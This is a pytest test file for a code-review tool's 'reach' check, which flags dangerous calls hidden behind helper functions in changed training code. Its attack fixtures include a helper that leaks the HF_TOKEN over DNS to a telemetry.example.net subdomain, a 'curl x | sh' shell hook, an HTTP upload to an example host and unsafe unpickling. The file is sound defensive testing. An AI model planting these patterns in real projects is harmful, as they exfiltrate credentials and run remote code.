"""The reach check (docs/checks/reach.md, issue #16 classes 4 and 6).

Each attack hides a sink one or more calls away from the changed line, where
semgrep (one function at a time) cannot see it; each must give
``reach-dangerous-call`` at the added call with the chain in the message. The
look-alikes (a restricted unpickler, a command list never run, json.loads,
torch.load with weights_only=True) must stay quiet. The torch requirement is
read from the project's own files. Every run is the real CLI on a real repo.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from traingate.checks.reach import summary
from traingate.cli import main

from .conftest import POLICY, Repo

# semgrep is off in most cases: this check does not depend on it, and it is slow.
NO_SEMGREP = POLICY + "checks:\n  semgrep: {enabled: false}\n"


def _check(
    repo: Repo, capsys: pytest.CaptureFixture[str], *extra: str
) -> tuple[int, list[dict[str, Any]], dict[str, Any]]:
    capsys.readouterr()
    code = main(
        ["check", "--repo", str(repo.path), "--base", "main", "--head", "feature"]
        + ["--format", "json", *extra]
    )
    doc = json.loads(capsys.readouterr().out)
    return code, [f for f in doc["findings"] if f["check"] == "reach"], doc


def _rules(findings: list[dict[str, Any]]) -> list[tuple[str, str, int | None]]:
    return sorted((f["rule_id"], f["path"], f["line"]) for f in findings)


def _repo(repo: Repo, base: dict[str, str], policy: str = NO_SEMGREP) -> Repo:
    repo.write(".traingate.yaml", policy)
    repo.write("train.py", "def main():\n    pass\n")
    for path, text in base.items():
        repo.write(path, text)
    repo.commit("base")
    repo.branch("feature")
    return repo


def train_change(
    repo: Repo,
    capsys: pytest.CaptureFixture[str],
    base: dict[str, str],
    old: str,
    new: str,
    who: str = "mallory",
) -> tuple[int, list[dict[str, Any]], dict[str, Any]]:
    """A base tree with ``train.py`` = old; the change by ``who`` makes it new."""
    _repo(repo, {**base, "train.py": old})
    repo.write("train.py", new)
    repo.commit("feature", who=who)
    return _check(repo, capsys)


def assert_blocks_at(
    result: tuple[int, list[dict[str, Any]], dict[str, Any]], line: int, part: str
) -> dict[str, Any]:
    """The one reach finding: blocking, on train.py's ``line``, naming ``part``."""
    code, found, doc = result
    assert doc["errors"] == []
    assert _rules(found) == [("reach-dangerous-call", "train.py", line)], found
    assert part in found[0]["message"], found
    assert found[0]["severity"] == "ERROR"
    assert code == 1
    return found[0]


IO_HELPER = """\
import pickle


def load_blob(path):
    with open(path, "rb") as fh:
        return pickle.loads(fh.read())
"""

# --------------------------------------------------------------------------
# attacks: each a sink behind a helper, called from an added line
# --------------------------------------------------------------------------


ATTACKS: dict[str, tuple[dict[str, str], str, str, list[str]]] = {
    # name: (base files, new train.py, line of the call, message parts)
    "helper in another file": (
        {"utils/io.py": IO_HELPER},
        "from utils.io import load_blob\n\n\ndef main():\n    state = load_blob('ckpt.bin')\n",
        "5",
        ["train.py:5 calls utils.io.load_blob -> pickle.loads (utils/io.py:6)"],
    ),
    "alias imports": (
        {"utils/__init__.py": "", "utils/io.py": IO_HELPER},
        "import utils.io as uio\nfrom utils.io import load_blob as lb\n\n"
        "def main():\n    a = uio.load_blob('a')\n    b = lb('b')\n",
        "5,6",
        ["utils.io.load_blob -> pickle.loads (utils/io.py:6)"],
    ),
    "two-level chain": (
        {
            "utils/io.py": IO_HELPER,
            "utils/ckpt.py": "from .io import load_blob\n\n\n"
            "def restore(run):\n    return load_blob(f'/runs/{run}/state.bin')\n",
            "utils/__init__.py": "",
        },
        "from utils import ckpt\n\n\ndef main():\n    s = ckpt.restore('last')\n",
        "5",
        ["utils.ckpt.restore -> utils.io.load_blob -> pickle.loads (utils/io.py:6)"],
    ),
    "re-export through __init__": (
        {"pkg/__init__.py": "from .io import load_blob\n", "pkg/io.py": IO_HELPER},
        "from pkg import load_blob\n\n\ndef main():\n    return load_blob('x')\n",
        "5",
        ["pkg.io.load_blob -> pickle.loads"],
    ),
    "helper in the same file": (
        {},
        "import os\n\n\ndef _sync(cmd):\n    return os.system(cmd)\n\n\ndef main():\n    pass\n",
        "",  # replaced below: the helper exists in base, the call is added
        [],
    ),
    "lambda with getattr(__import__)": (
        {"utils/dyn.py": "resolve = lambda m, n: getattr(__import__(m), n)\n"},
        "from utils.dyn import resolve\n\n\ndef main():\n    resolve('os', 'system')('id')\n",
        "5",
        ["utils.dyn.resolve -> builtins.dynattr (utils/dyn.py:1)", "chosen by name"],
    ),
    "method on self": (
        {
            "trainer.py": "import subprocess\n\n\nclass Trainer:\n"
            "    def _hook(self, cmd):\n        subprocess.run(cmd, shell=True)\n\n"
            "    def fit(self):\n        pass\n",
        },
        "",  # replaced below: the call is added inside a method
        "",
        [],
    ),
    "DNS of a caller-built name": (
        {
            "utils/net.py": "import socket\n\n\ndef probe(label):\n"
            "    host = label + '.telemetry.example.net'\n    return socket.gethostbyname(host)\n"
        },
        "import os\nfrom utils.net import probe\n\n\ndef main():\n"
        "    probe(os.environ.get('HF_TOKEN', '').encode().hex())\n",
        "6",
        ["utils.net.probe -> socket.gethostbyname (utils/net.py:6)", "DNS lookup"],
    ),
    "torch.load in a helper (torch>=2.1)": (
        {
            "requirements.txt": "torch>=2.1\n",
            "utils/ckpt.py": "import torch as th\n\n\ndef restore(p):\n    return th.load(p)\n",
        },
        "from utils.ckpt import restore\n\n\ndef main():\n    restore('last.pt')\n",
        "5",
        ["utils.ckpt.restore -> torch.load (utils/ckpt.py:5)", "torch>=2.1"],
    ),
    "HTTP upload in a helper": (
        {
            "utils/report.py": "import requests\n\n\ndef report(metrics):\n"
            "    requests.post('https://hooks.example.com/x', json=metrics)\n"
        },
        "from utils.report import report\n\n\ndef main():\n    report({'loss': 1.0})\n",
        "5",
        ["utils.report.report -> requests.post"],
    ),
}


@pytest.mark.parametrize("name", [n for n, a in ATTACKS.items() if a[2]])
def test_attack_is_reported_at_the_added_call_with_its_chain(
    name: str, repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    base, train, lines, parts = ATTACKS[name]
    _repo(repo, base)
    repo.write("train.py", train)
    repo.commit("feature", who="mallory")
    code, found, _ = _check(repo, capsys)
    want = [("reach-dangerous-call", "train.py", int(n)) for n in lines.split(",")]
    assert _rules(found) == want, found
    for part in parts:
        assert all(part in f["message"] for f in found), (part, found)
    assert all(f["severity"] == "ERROR" and f["outcome"] == "require_approval" for f in found)
    assert all(f["approval_group"] == "security" for f in found)
    assert code == 1


def test_helper_in_the_same_file(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    base = "import os\n\n\ndef _sync(cmd):\n    return os.system(cmd)\n\n\ndef main():\n    pass\n"
    _repo(repo, {"train.py": base})
    repo.write("train.py", base.replace("    pass\n", "    _sync('rsync -a ckpt/ backup:/')\n"))
    repo.commit("feature", who="mallory")
    _, found, _ = _check(repo, capsys)
    assert _rules(found) == [("reach-dangerous-call", "train.py", 9)]
    assert "train._sync -> os.system (train.py:5)" in found[0]["message"]


def test_method_on_self(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    text = ATTACKS["method on self"][0]["trainer.py"]
    _repo(repo, {"trainer.py": text})
    repo.write("trainer.py", text.replace("        pass\n", "        self._hook('curl x | sh')\n"))
    repo.commit("feature", who="mallory")
    _, found, _ = _check(repo, capsys)
    assert _rules(found) == [("reach-dangerous-call", "trainer.py", 9)]
    assert "trainer.Trainer._hook -> subprocess.run (trainer.py:6)" in found[0]["message"]


def test_chain_through_a_new_helper_in_the_change_reports_the_call_site(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    """A new helper wrapping the sink is semgrep's to report; the call is ours."""
    _repo(repo, {}, policy=POLICY)
    repo.write("utils/io.py", IO_HELPER)
    repo.write("train.py", "from utils.io import load_blob\n\n\ndef main():\n    load_blob('x')\n")
    repo.commit("feature", who="mallory")
    _, found, doc = _check(repo, capsys)
    assert _rules(found) == [("reach-dangerous-call", "train.py", 5)]
    sem = [(f["rule_id"], f["path"], f["line"]) for f in doc["findings"] if f["check"] == "semgrep"]
    assert sem == [("deser-pickle-load", "utils/io.py", 6)]
    assert not any(f["path"] == "utils/io.py" for f in found)  # not double-reported


def test_an_existing_call_with_new_arguments_is_not_new(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    _repo(
        repo,
        {
            "utils/io.py": IO_HELPER,
            "train.py": "from utils.io import load_blob\n\n\ndef main():\n    load_blob('a')\n",
        },
    )
    repo.write("train.py", "from utils.io import load_blob\n\n\ndef main():\n    load_blob('b')\n")
    repo.commit("feature")
    assert _check(repo, capsys)[1] == []


# --------------------------------------------------------------------------
# look-alikes
# --------------------------------------------------------------------------

RESTRICTED = """\
import io
import pickle

SAFE = {("collections", "OrderedDict"), ("builtins", "dict")}


class RestrictedUnpickler(pickle.Unpickler):
    def find_class(self, module, name):
        if (module, name) not in SAFE:
            raise pickle.UnpicklingError(f"{module}.{name} is not allowed")
        return super().find_class(module, name)


def safe_loads(data):
    return RestrictedUnpickler(io.BytesIO(data)).load()
"""

LOOKALIKES: dict[str, tuple[dict[str, str], str]] = {
    "restricted unpickler": (
        {"utils/safe.py": RESTRICTED},
        "import io\nfrom utils.safe import RestrictedUnpickler, safe_loads\n\n\ndef main(b):\n"
        "    a = safe_loads(b)\n    c = RestrictedUnpickler(io.BytesIO(b)).load()\n",
    ),
    "torch.load with weights_only=True": (
        {
            "requirements.txt": "torch>=2.1\n",
            "utils/ckpt.py": "import torch\n\n\ndef restore(p):\n"
            "    return torch.load(p, map_location='cpu', weights_only=True)\n",
        },
        "import torch\nfrom utils.ckpt import restore\n\n\ndef main():\n    restore('a.pt')\n"
        "    torch.load('b.pt', weights_only=True)\n",
    ),
    "command list built, never run": (
        {
            "utils/launch.py": "import shlex\n\n\ndef build_cmd(script, gpus):\n"
            "    return ['torchrun', f'--nproc-per-node={gpus}', script]\n\n\n"
            "def describe(cmd):\n    return shlex.join(cmd)\n"
        },
        "from utils.launch import build_cmd, describe\n\n\ndef main():\n"
        "    print(describe(build_cmd('train.py', 8)))\n",
    ),
    "json.loads wrapper": (
        {
            "utils/cfg.py": "import json\n\n\ndef read(path):\n    return json.loads(open(path).read())\n"
        },
        "from utils.cfg import read\n\n\ndef main():\n    cfg = read('cfg.json')\n",
    ),
    "fixed command in a helper": (
        {"utils/gpu.py": "import os\n\n\ndef log_gpus():\n    os.system('nvidia-smi')\n"},
        "from utils.gpu import log_gpus\n\n\ndef main():\n    log_gpus()\n",
    ),
    "DNS of the local host": (
        {
            "utils/net.py": "import socket\n\n\ndef my_ip():\n"
            "    return socket.gethostbyname(socket.gethostname())\n"
        },
        "from utils.net import my_ip\n\n\ndef main():\n    print(my_ip())\n",
    ),
    "model.eval() is not eval": (
        {"utils/ev.py": "def evaluate(model):\n    model.eval()\n    return model\n"},
        "from utils.ev import evaluate\n\n\ndef main(m):\n    evaluate(m)\n",
    ),
    "importing a module whose body is harmless": (
        {"utils/io.py": IO_HELPER},
        "import utils.io\n\n\ndef main():\n    pass\n",
    ),
    "shadowing stdlib name in a package": (
        {
            "pkg/os.py": "import pickle\n\n\ndef system(x):\n    return pickle.loads(x)\n",
            "pkg/__init__.py": "",
        },
        "import os\n\n\ndef main():\n    os.getcwd()\n",
    ),
}


@pytest.mark.parametrize("name", list(LOOKALIKES))
def test_lookalike_is_quiet(name: str, repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    base, train = LOOKALIKES[name]
    _repo(repo, base)
    repo.write("train.py", train)
    repo.commit("feature")
    _, found, doc = _check(repo, capsys)
    assert found == [], found
    assert doc["errors"] == []


def test_unrestricted_unpickler_subclass_is_a_sink(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    loose = RESTRICTED.replace(
        "        if (module, name) not in SAFE:\n"
        '            raise pickle.UnpicklingError(f"{module}.{name} is not allowed")\n',
        "",
    )
    _repo(repo, {"utils/safe.py": loose})
    repo.write(
        "train.py", "from utils.safe import safe_loads\n\n\ndef main(b):\n    safe_loads(b)\n"
    )
    repo.commit("feature", who="mallory")
    _, found, _ = _check(repo, capsys)
    assert _rules(found) == [("reach-dangerous-call", "train.py", 5)]
    assert "utils.safe.RestrictedUnpickler" in found[0]["message"]


# --------------------------------------------------------------------------
# torch.load and the project's torch requirement (class 6)
# --------------------------------------------------------------------------

LOAD = "import torch as th\n\n\ndef main():\n    sd = th.load('ckpt.pt', map_location='cpu')\n"


@pytest.mark.parametrize(
    ("files", "severity", "quote"),
    [
        ({"requirements.txt": "numpy\ntorch>=2.1\n"}, "ERROR", "`torch>=2.1` in requirements.txt"),
        ({"requirements.txt": "torch==2.5.1  # cu121\n"}, "ERROR", "`torch==2.5.1`"),
        ({"requirements.txt": "torch>=2.6\n"}, None, ""),
        ({"requirements.txt": "torch\n"}, "ERROR", "`torch`"),
        ({"pyproject.toml": '[project]\nname="x"\ndependencies = ["torch>=2.6.0"]\n'}, None, ""),
        (
            {"pyproject.toml": '[project]\nname="x"\ndependencies = ["torch>=2.2,<3"]\n'},
            "ERROR",
            "in pyproject.toml",
        ),
        (
            {"pyproject.toml": '[tool.poetry.dependencies]\npython="^3.10"\ntorch = "^2.6"\n'},
            None,
            "",
        ),
        (
            {"pyproject.toml": '[tool.poetry.dependencies]\ntorch = "~2.4"\n'},
            "ERROR",
            "in pyproject.toml",
        ),
        ({"setup.cfg": "[options]\ninstall_requires =\n    torch==2.4.0\n"}, "ERROR", "setup.cfg"),
        (
            {"environment.yml": "dependencies:\n  - python=3.11\n  - pytorch=2.5\n"},
            "ERROR",
            "environment.yml",
        ),
        ({"environment.yml": "dependencies:\n  - pip:\n    - torch>=2.7\n"}, None, ""),
        ({}, "WARNING", "no torch requirement was found"),
        (
            # one declaration admitting < 2.6 is enough: fail closed
            {"requirements.txt": "torch>=2.6\n", "requirements/legacy.txt": "torch<2.6\n"},
            "ERROR",
            "requirements/legacy.txt",
        ),
    ],
)
def test_torch_load_default_follows_the_project_requirement(
    files: dict[str, str],
    severity: str | None,
    quote: str,
    repo: Repo,
    capsys: pytest.CaptureFixture[str],
) -> None:
    _repo(repo, files)
    repo.write("train.py", LOAD)
    repo.commit("feature")
    _, found, _ = _check(repo, capsys)
    if severity is None:
        assert found == []
        return
    assert _rules(found) == [("reach-torch-load-default", "train.py", 5)]
    assert found[0]["severity"] == severity
    assert quote in found[0]["message"]


def test_torch_load_default_respects_weights_only_and_semgrep_owns_false(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    _repo(repo, {"requirements.txt": "torch>=2.1\n"})
    repo.write(
        "train.py",
        "import torch\nfrom torch import load\n\n\ndef main():\n"
        "    a = torch.load('a', weights_only=True)\n    b = load('b')\n"
        "    c = torch.serialization.load('c', weights_only=False)\n",
    )
    repo.commit("feature")
    _, found, _ = _check(repo, capsys)
    # `load` is torch.load through `from torch import load`; weights_only=False
    # is semgrep's deser-torch-load-unsafe, not reported twice here.
    assert _rules(found) == [("reach-torch-load-default", "train.py", 7)]


def test_helper_torch_load_is_quiet_when_torch_is_new_enough(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    base, train, _, _ = ATTACKS["torch.load in a helper (torch>=2.1)"]
    _repo(repo, {**base, "requirements.txt": "torch>=2.6\n"})
    repo.write("train.py", train)
    repo.commit("feature")
    assert _check(repo, capsys)[1] == []


# --------------------------------------------------------------------------
# fail closed, notebooks, cache
# --------------------------------------------------------------------------


def test_unparseable_file_in_the_tree_is_skipped_with_a_note(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    # A pre-existing unparseable file is left out quietly (it would otherwise
    # repeat on every commit); the calls that can be judged still are.
    _repo(repo, {"legacy/old.py": "print 'python 2'\n", "utils/io.py": IO_HELPER})
    repo.write("train.py", "from utils.io import load_blob\n\n\ndef main():\n    load_blob('x')\n")
    repo.commit("feature")
    _, found, doc = _check(repo, capsys)
    assert _rules(found) == [("reach-dangerous-call", "train.py", 5)]
    assert doc["errors"] == []
    # The change that adds (or edits) such a file gets the note.
    repo.write("legacy/new.py", "print 'also python 2'\n")
    repo.commit("more legacy")
    _, found, doc = _check(repo, capsys)
    assert ("reach-unparsed", "legacy/new.py", None) in _rules(found)
    note = next(f for f in found if f["rule_id"] == "reach-unparsed")
    assert note["severity"] == "WARNING" and "legacy/new.py (SyntaxError" in note["message"]
    assert "legacy/old.py" not in note["message"]


def test_caps_are_a_blocking_finding_naming_the_limit(
    repo: Repo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    _repo(repo, {f"pkg/m{i}.py": f"X = {i}\n" for i in range(5)})
    repo.write("train.py", "def main():\n    return 1\n")
    repo.commit("feature")
    monkeypatch.setattr(summary, "MAX_FILES", 3)
    code, found, _ = _check(repo, capsys)
    inc = [f for f in found if f["rule_id"] == "reach-incomplete"]
    assert len(inc) == 1 and inc[0]["severity"] == "ERROR"
    assert "more than 3 Python files in the tree" in inc[0]["message"]
    assert "pkg/m3.py" in inc[0]["message"] or "train.py" in inc[0]["message"]
    assert code == 1
    monkeypatch.setattr(summary, "MAX_FILES", 20_000)
    monkeypatch.setattr(summary, "MAX_TOTAL_BYTES", 20)
    _, found, _ = _check(repo, capsys)
    assert any(
        "exceed 20 bytes" in f["message"] for f in found if f["rule_id"] == "reach-incomplete"
    )


def test_notebook_cell_call_is_reported_on_its_json_line(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    _repo(repo, {"utils/io.py": IO_HELPER})
    nb = {
        "cells": [
            {"cell_type": "markdown", "source": ["# explore\n"], "metadata": {}},
            {
                "cell_type": "code",
                "source": [
                    "%matplotlib inline\n",
                    "from utils.io import load_blob\n",
                    "s = load_blob('x')\n",
                ],
                "metadata": {},
                "outputs": [],
                "execution_count": None,
            },
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    text = json.dumps(nb, indent=1) + "\n"
    repo.write("explore.ipynb", text)
    repo.commit("feature")
    _, found, _ = _check(repo, capsys)
    want = next(i for i, ln in enumerate(text.splitlines(), 1) if "load_blob('x')" in ln)
    assert _rules(found) == [("reach-dangerous-call", "explore.ipynb", want)]


def test_summary_is_cached_by_blob(
    repo: Repo, capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Issue #17: one JSON per blob the exploration parsed (was: one per tree).
    cache = tmp_path / "cache"
    monkeypatch.setenv("TRAINGATE_CACHE_DIR", str(cache))
    _repo(repo, {"utils/io.py": IO_HELPER, **{f"pkg/m{i}.py": f"X = {i}\n" for i in range(4)}})
    repo.write("train.py", "from utils.io import load_blob\n\n\ndef main():\n    load_blob('x')\n")
    repo.commit("feature")
    summary.STATS["parsed"] = 0
    first = _check(repo, capsys)[1]
    cold = summary.STATS["parsed"]
    entries = list((cache / "reach").rglob("*.json"))
    # train.py (both sides) and utils/io.py; pkg/ is never reached
    assert len(entries) == cold == 3
    summary.STATS["parsed"] = 0
    again = _check(repo, capsys)[1]
    assert summary.STATS["parsed"] == 0  # the same tree: nothing parsed
    assert again == first and _rules(first) == [("reach-dangerous-call", "train.py", 5)]
    # A new commit parses only the blobs it brings: pkg/m0.py, new and old.
    repo.write("pkg/m0.py", "X = 100\n")
    repo.commit("more")
    summary.STATS["parsed"] = 0
    _check(repo, capsys)
    assert summary.STATS["parsed"] <= 2


def test_corrupt_cache_entry_is_a_miss(
    repo: Repo, capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = tmp_path / "cache"
    monkeypatch.setenv("TRAINGATE_CACHE_DIR", str(cache))
    _repo(repo, {"utils/io.py": IO_HELPER})
    repo.write("train.py", "from utils.io import load_blob\n\n\ndef main():\n    load_blob('x')\n")
    repo.commit("feature")
    _check(repo, capsys)
    for entry in (cache / "reach").rglob("*.json"):
        entry.write_text('{"key": "nope"}')
    _, found, doc = _check(repo, capsys)
    assert _rules(found) == [("reach-dangerous-call", "train.py", 5)] and doc["errors"] == []


def test_staged_mode_sees_the_index_tree(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    _repo(repo, {"utils/io.py": IO_HELPER})
    repo.write("train.py", "from utils.io import load_blob\n\n\ndef main():\n    load_blob('x')\n")
    repo.git("add", "train.py")
    capsys.readouterr()
    main(["check", "--repo", str(repo.path), "--staged", "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    found = [f for f in doc["findings"] if f["check"] == "reach"]
    assert _rules(found) == [("reach-dangerous-call", "train.py", 5)]


def test_scan_of_an_absolute_path_links_files_and_ends(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`scan` names files by absolute path outside the working directory: module
    roots are walked up to "/" once (an earlier version looped there forever)."""
    root = tmp_path / "proj"
    (root / "utils").mkdir(parents=True)
    (root / "utils" / "io.py").write_text(IO_HELPER)
    (root / "train.py").write_text("from utils.io import load_blob\n\nload_blob('x')\n")
    (root / ".traingate.yaml").write_text(NO_SEMGREP)
    capsys.readouterr()
    main(["scan", str(root), "--format", "json", "--policy", str(root / ".traingate.yaml")])
    doc = json.loads(capsys.readouterr().out)
    found = [f for f in doc["findings"] if f["check"] == "reach"]
    assert [(f["rule_id"], f["line"]) for f in found] == [("reach-dangerous-call", 3)]
    assert found[0]["path"].endswith("train.py") and "pickle.loads" in found[0]["message"]


SHELL_AND_PICKLE = """\
import os

from utils.io import load_blob


def sync_and_load(cmd):
    os.system(cmd)
    return load_blob("x")
"""


def _scan_reach(root: Path, capsys: pytest.CaptureFixture[str]) -> list[tuple[str, int, str]]:
    (root / ".traingate.yaml").write_text(NO_SEMGREP)
    capsys.readouterr()
    main(["scan", str(root), "--format", "json", "--policy", str(root / ".traingate.yaml")])
    doc = json.loads(capsys.readouterr().out)
    return sorted(
        (f["path"].rpartition("/")[2], f["line"], f["message"].partition(": ")[2])
        for f in doc["findings"]
        if f["check"] == "reach"
    )


def test_scan_points_at_each_sink_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Issue #16: in `scan` every sink is itself scanned, so 14 calls to
    accelerate's `gather_object` were 14 copies of one pointer to one
    `pickle.loads`. Each sink's chain is given once (the first call), and a
    second sink reached by the same helper is not hidden behind the first."""
    root = tmp_path / "proj"
    (root / "utils").mkdir(parents=True)
    (root / "utils" / "io.py").write_text(IO_HELPER)
    (root / "utils" / "sync.py").write_text(SHELL_AND_PICKLE)
    calls = "from utils.io import load_blob\n\nload_blob('a')\nload_blob('b')\n"
    (root / "a.py").write_text(calls)
    (root / "b.py").write_text(calls)
    # Reaches the pickle.loads already pointed at, and an os.system not yet.
    (root / "c.py").write_text("from utils.sync import sync_and_load\n\nsync_and_load(x)\n")
    found = _scan_reach(root, capsys)
    assert [(p, n) for p, n, _ in found] == [("a.py", 3), ("c.py", 3)], found
    assert found[0][2].startswith("unpickling")
    assert "it also reaches a shell command" in found[1][2]


def test_check_still_reports_every_added_call_to_the_same_sink(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    """The scan-only dedup must not weaken `check`: each added call is a new
    route to the sink, and may be the only line of the change."""
    _repo(repo, {"utils/io.py": IO_HELPER})
    repo.write(
        "train.py",
        "from utils.io import load_blob\n\n\ndef main():\n    load_blob('a')\n    load_blob('b')\n",
    )
    repo.write("eval.py", "from utils.io import load_blob\n\nload_blob('c')\n")
    repo.commit("feature", who="mallory")
    code, found, _ = _check(repo, capsys)
    assert _rules(found) == [
        ("reach-dangerous-call", "eval.py", 3),
        ("reach-dangerous-call", "train.py", 5),
        ("reach-dangerous-call", "train.py", 6),
    ]
    assert code == 1
